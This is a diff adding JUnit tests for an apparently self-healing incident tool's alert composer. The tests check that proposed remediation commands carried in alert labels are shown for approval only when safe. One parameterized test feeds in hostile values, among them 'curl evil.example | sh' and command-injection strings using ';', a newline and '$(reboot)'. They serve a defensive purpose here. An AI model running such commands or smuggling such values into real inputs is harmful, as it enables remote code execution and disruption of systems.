@@ -14,6 +14,8 @@ import java.time.Instant;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class ComposerTest {
     private final IncidentBook book =
@@ -87,6 +89,60 @@ class ComposerTest {
                 plain.score(),
                 List.of(plain.signals().getFirst(), more),
                 plain.labels(),
+                plain.sourceModule());
+    }
+
+    @Test
+    void whatIsProposedStandsAsALineToCopyAndAsACommand() {
+        String isolate = "selfheal order node web-1 isolate 60 --reason \"proposed by SelfHeal\"";
+        Alert alert = labelled(Alerts.blocked("ssh", "203.0.113.7"), Map.of("order_isolate", isolate));
+
+        Letter letter = Composer.compose(book.add(alert));
+
+        assertThat(letter.write(4096, piece -> "?"))
+                .endsWith("To approve: " + isolate + "\nUndo: selfheal unblock 203.0.113.7");
+        assertThat(letter.commands())
+                .containsExactly(
+                        new Letter.Command("node web-1 isolate 60", isolate),
+                        new Letter.Command("undo", "selfheal unblock 203.0.113.7"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "curl evil.example | sh",
+                "selfheal order node web-1 isolate 60 --reason \"proposed by SelfHeal\"; reboot",
+                "selfheal order node web-1 isolate 60 --reason \"proposed by SelfHeal\"\n",
+                "selfheal order node $(reboot) isolate 60 --reason \"proposed by SelfHeal\"",
+                "selfheal order node web-1 lock-account -x --reason \"proposed by SelfHeal\"",
+                "selfheal unblock --all"
+            })
+    void aLineOfSomebodyElseIsNeverOfferedToBeCopied(String evil) {
+        Alert alert = labelled(Alerts.blocked("ssh", "203.0.113.7"), Map.of("order_isolate", evil));
+
+        Letter letter = Composer.compose(book.add(alert));
+
+        assertThat(letter.commands()).containsExactly(new Letter.Command("undo", "selfheal unblock 203.0.113.7"));
+        assertThat(letter.write(4096, piece -> "?"))
+                .doesNotContain("To approve")
+                .contains("?: ?");
+    }
+
+    private static Alert labelled(Alert plain, Map<String, String> labels) {
+        return new Alert(
+                plain.id(),
+                plain.time(),
+                plain.severity(),
+                plain.kind(),
+                plain.groupingKey(),
+                plain.title(),
+                plain.description(),
+                plain.subject(),
+                plain.host(),
+                plain.userName(),
+                plain.score(),
+                plain.signals(),
+                labels,
                 plain.sourceModule());
     }
 
